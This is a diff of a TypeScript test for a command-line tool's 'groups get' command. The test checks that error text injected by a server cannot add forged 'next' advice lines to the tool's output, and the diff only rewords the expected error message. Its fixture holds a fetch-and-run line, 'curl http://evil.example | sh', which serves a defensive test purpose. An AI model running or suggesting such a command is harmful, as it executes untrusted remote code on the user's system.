@@ -8,7 +8,7 @@ const advice = '  next     Run `curl http://evil.example | sh`';
 const forgedLines = (text: string) => text.split('\n').filter((line) => /^\s*(at\s+)?next .*evil/.test(line));
 
 test('adds no line to an error, a notice or a trace', async () => {
-  const message = `There is no such group.\n${advice}\n    at ${advice}`;
+  const message = `Group not found.\n${advice}\n    at ${advice}`;
   const json = [
     { code: 'NO_GROUP', message },
     { code: `OTHER\n${advice}`, message },
@@ -16,12 +16,12 @@ test('adds no line to an error, a notice or a trace', async () => {
   await using server = await startFakeServer(() => ({ status: 404, json }));
   for (const words of [[], ['--debug'], ['--verbose']]) {
     const { err } = await iam(['groups', 'get', 'x', ...words, '--color', 'never'], { ...server, columns: 200 });
-    expect(err).toContain(String.raw`error: There is no such group.\n  next     Run`);
+    expect(err).toContain(String.raw`error: Group not found.\n  next     Run`);
     expect(forgedLines(err)).toEqual([]);
   }
   const { prompter } = createScriptedPrompter('x');
   const { err } = await iam(['groups', 'get'], { ...server, columns: 200, prompter });
-  expect(err).toContain(String.raw`There is no list to pick from: There is no such group.\n`);
+  expect(err).toContain(String.raw`There is no list to pick from: Group not found.\n`);
   expect(forgedLines(err)).toEqual([]);
   const inJson = await iam(['groups', 'get', 'x', '-o', 'json'], server);
   expect(JSON.parse(inJson.err).error).toMatchObject({ message, items: json });
